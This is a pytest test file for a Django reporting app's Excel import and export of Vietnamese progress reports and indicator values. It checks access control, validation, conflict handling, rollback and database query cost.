def test_the_download_lists_each_indicator_with_its_value(world, indicators, reporter_a):
    report = ProgressReportFactory(assignment=world.a[0], period=world.period)
    IndicatorValue.objects.create(report=report, indicator=indicators.articles, value=12)
    IndicatorValue.objects.create(report=report, indicator=indicators.meetings, value="3.50")

    wb = download(reporter_a, world.period)

    assert wb.sheetnames == ["Báo cáo", "Chỉ tiêu", "Hướng dẫn"]
    assert [c.value for c in wb["Chỉ tiêu"][1]] == INDICATOR_HEADERS
    task_1 = f"1.1 {world.a[0].task.text}"
    task_2 = f"1.2 {world.a[1].task.text}"
    assert [list(r.values()) for r in indicator_table(wb)] == [
        [world.a[0].pk, indicators.articles.pk, "Đảng bộ xã A", task_1, "Số tin, bài", "bài",
         "Có", 12],
        [world.a[0].pk, indicators.meetings.pk, "Đảng bộ xã A", task_1, "Số hội nghị",
         "hội nghị", None, 3.5],
        [world.a[1].pk, indicators.speakers.pk, "Đảng bộ xã A", task_2, "Số cụm loa", "cụm",
         "Có", None],
    ]  # fmt: skip


def test_a_reviewer_never_sees_indicator_values_of_a_draft(world, indicators, reviewer):
    sent = ProgressReportFactory(assignment=world.a[0], period=world.period, submitted=True)
    IndicatorValue.objects.create(report=sent, indicator=indicators.articles, value=12)
    draft = ProgressReportFactory(assignment=world.b[0], period=world.period)
    IndicatorValue.objects.create(report=draft, indicator=indicators.articles, value=987654)

    wb = download(reviewer, world.period)

    values = {(r["Mã dòng (không sửa)"], r["Chỉ tiêu"]): r["Giá trị"] for r in indicator_table(wb)}
    assert values[(world.a[0].pk, "Số tin, bài")] == 12
    assert values[(world.b[0].pk, "Số tin, bài")] is None
    every_cell = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert 987654 not in every_cell


def test_the_round_trip_saves_indicator_values_with_the_report(world, indicators, reporter_a):
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())
    fill(wb, 3, **filled())
    fill_indicator(wb, world.a[0], indicators.articles, 12)
    fill_indicator(wb, world.a[0], indicators.meetings, "3,5")  # typed as text, comma
    # Số cụm loa is required, but a draft may leave it empty: it is checked on sending.

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.status_code == 302, response.context["errors"]
    first, second = (ProgressReport.objects.get(assignment=a) for a in world.a[:2])
    assert values_of(first) == {"Số tin, bài": Decimal(12), "Số hội nghị": Decimal("3.5")}
    assert values_of(second) == {}


def test_changing_only_an_indicator_saves_the_report(world, indicators, reporter_a):
    report = ProgressReportFactory(assignment=world.a[0], period=world.period, percent_done=40)
    IndicatorValue.objects.create(report=report, indicator=indicators.articles, value=12)
    IndicatorValue.objects.create(report=report, indicator=indicators.meetings, value=2)
    wb = download(reporter_a, world.period)
    fill_indicator(wb, world.a[0], indicators.articles, 15.25)
    fill_indicator(wb, world.a[0], indicators.meetings, None)  # cleared

    client = login(reporter_a)
    response = client.post(page_url(world.period), {"file": as_upload(wb)}, follow=True)

    assert "Đã lưu 1 báo cáo dưới dạng nháp" in response.content.decode()
    old_version = report.version
    report.refresh_from_db()
    assert (report.version, report.percent_done) == (old_version + 1, 40)
    assert values_of(report) == {"Số tin, bài": Decimal("15.25")}

    # The same file again: nothing changed any more.
    before = snapshot()
    assert upload(reporter_a, world.period, as_upload(wb)).status_code == 302
    assert snapshot() == before


def test_an_indicator_saved_since_the_download_is_not_overwritten(world, indicators, reporter_a):
    report = ProgressReportFactory(assignment=world.a[0], period=world.period)
    IndicatorValue.objects.create(report=report, indicator=indicators.articles, value=12)
    wb = download(reporter_a, world.period)
    services.report_save_draft(  # a colleague, in the browser
        assignment=world.a[0],
        period=world.period,
        by=reporter_a,
        data={"indicators": {indicators.articles.pk: Decimal(20)}},
    )
    before = snapshot()

    # Left as downloaded: skipped, the colleague's 20 stays.
    assert upload(reporter_a, world.period, as_upload(wb)).status_code == 302
    assert snapshot() == before

    fill_indicator(wb, world.a[0], indicators.articles, 13)
    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.context["errors"] == [
        "Dòng 2: báo cáo đã được sửa sau khi bạn tải bảng tính về; hãy tải lại bảng tính "
        "để không ghi đè nội dung mới."
    ]
    assert snapshot() == before


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("mười hai", "phải là một số, ví dụ 12 hoặc 3,5."),
        (-1, "không được âm."),
        ("-0,5", "không được âm."),
        (1.234, "tối đa 2 chữ số sau dấu phẩy."),
        (1_234_567_890_123, "tối đa 12 chữ số trước dấu phẩy."),
        (True, "phải là một số, ví dụ 12 hoặc 3,5."),
        ("=1+1", "không dùng công thức; hãy nhập giá trị."),
    ],
    ids=["text", "negative", "negative-text", "three-decimals", "13-digits", "boolean", "formula"],
)
def test_each_bad_indicator_value_is_refused(value, message, world, indicators, reporter_a):
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())
    fill_indicator(wb, world.a[0], indicators.meetings, value)  # the sheet's row 3

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.status_code == 200
    assert response.context["errors"] == [f"Trang “Chỉ tiêu”, dòng 3, cột “Giá trị”: {message}"]
    assert not ProgressReport.objects.exists()


def test_indicator_rows_that_do_not_fit_are_refused(world, indicators, reporter_a):
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())
    ws = wb["Chỉ tiêu"]
    ws.append([world.b[0].pk, indicators.articles.pk, None, None, None, None, None, 1])  # row 5
    ws.append([world.a[0].pk, indicators.speakers.pk, None, None, None, None, None, 2])  # 6
    ws.append([world.a[0].pk, indicators.articles.pk, None, None, None, None, None, 3])  # 7
    ws.append([None, None, None, None, "Số tin, bài", None, None, 4])  # 8
    fill_indicator(wb, world.a[1], indicators.speakers, 5)  # row 4; its report row is empty

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.context["errors"] == [
        "Trang “Chỉ tiêu”, dòng 4: dòng báo cáo của nhiệm vụ này ở trang “Báo cáo” đang để "
        "trống; điền Tự đánh giá và Tỷ lệ hoàn thành ở đó để lưu chỉ tiêu cùng báo cáo.",
        "Trang “Chỉ tiêu”, dòng 5, cột “Mã dòng (không sửa)”: mã không khớp nhiệm vụ nào "
        "bạn được nhập trong kỳ báo cáo này.",
        "Trang “Chỉ tiêu”, dòng 6, cột “Mã chỉ tiêu (không sửa)”: mã không khớp chỉ tiêu nào "
        "của nhiệm vụ này.",
        "Trang “Chỉ tiêu”, dòng 7, cột “Mã chỉ tiêu (không sửa)”: chỉ tiêu trùng với dòng 2.",
        "Trang “Chỉ tiêu”, dòng 8, cột “Mã dòng (không sửa)”: thiếu mã; không xóa hay sửa cột này.",
    ]
    assert not ProgressReport.objects.exists()


def test_a_service_refusal_rolls_back_indicator_values_too(
    world, indicators, reporter_a, monkeypatch
):
    real = services.report_save_draft

    def refuse_task_2(**kwargs):
        if kwargs["assignment"] == world.a[1]:
            raise ValidationError("Kỳ báo cáo đã khóa nhập.")
        return real(**kwargs)

    monkeypatch.setattr(services, "report_save_draft", refuse_task_2)
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())
    fill(wb, 3, **filled())
    fill_indicator(wb, world.a[0], indicators.articles, 12)

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.context["errors"] == ["Dòng 3: Kỳ báo cáo đã khóa nhập."]
    assert not ProgressReport.objects.exists()
    assert not IndicatorValue.objects.exists()


# Query cost of an import -------------------------------------------------------------

# Queries per changed row with two indicator values, all of them in the save
# (services.report_save_draft: savepoints, the row lock, full_clean's unique checks, the
# save, the task's indicator ids and one upsert of its values). Whatever the checks need
# is loaded once for the whole file.
QUERIES_PER_ROW = 20


@pytest.fixture
def many_tasks(small_directive, unit_a):
    """Unit A has thirteen tasks, each counting two indicators."""
    for order in range(2, 14):
        TaskFactory(section=small_directive.section, order=order, text=f"Nhiệm vụ {order}.")
    assignments_sync(directive=small_directive.directive)
    for task in Task.objects.filter(section=small_directive.section):
        Indicator.objects.create(task=task, order=1, name="Số tin, bài", unit_of_measure="bài")
        Indicator.objects.create(task=task, order=2, name="Số hội nghị", required=False)
    return list(Assignment.objects.filter(unit=unit_a).order_by("task__order"))


def test_the_import_costs_the_same_few_queries_per_changed_row(
    small_directive, many_tasks, reporter_a
):
    period = small_directive.period
    # A report is there already, so both imports below load the same things.
    ProgressReportFactory(assignment=many_tasks[12], period=period)
    permissions.roles_of(reporter_a)  # read once per request, then kept

    def import_rows(assignments) -> int:
        wb = download(reporter_a, period)
        rows = row_numbers(wb)
        for assignment in assignments:
            fill(wb, rows[assignment.pk], **filled())
            for indicator in assignment.task.indicators.all():
                fill_indicator(wb, assignment, indicator, 4)
        file = as_upload(wb)
        with CaptureQueriesContext(connection) as captured:
            saved = period_workbook_import(
                period=period, unit_ids=[reporter_a_unit], upload=file, by=reporter_a
            )
        assert saved == len(assignments)
        return len(captured)

    reporter_a_unit = many_tasks[0].unit_id
    two = import_rows(many_tasks[:2])
    ten = import_rows(many_tasks[2:12])  # the first two are now unchanged rows: free

    assert IndicatorValue.objects.count() == 2 * 12
    assert (ten - two) / 8 <= QUERIES_PER_ROW, (two, ten)


def test_a_task_reported_until_done_by_a_deadline_says_so(deadline_directive):
    """The sheet's task column names the kind and the unit's deadline (read only)."""
    w = deadline_directive
    period = w.directive.periods.order_by("start").first()
    content = period_workbook(period=period, unit_ids=[w.ubnd.pk], by=w.ubnd_reporter)
    cells = [
        v
        for row in load_workbook(io.BytesIO(content))["Báo cáo"].iter_rows(values_only=True)
        for v in row
        if isinstance(v, str)
    ]
    assert any(v.startswith("1.2 (Thường xuyên, có thời hạn: 31/12/2021) ") for v in cells)
    assert not any(v.startswith("1.1 ") for v in cells)  # only due by a date: no period row
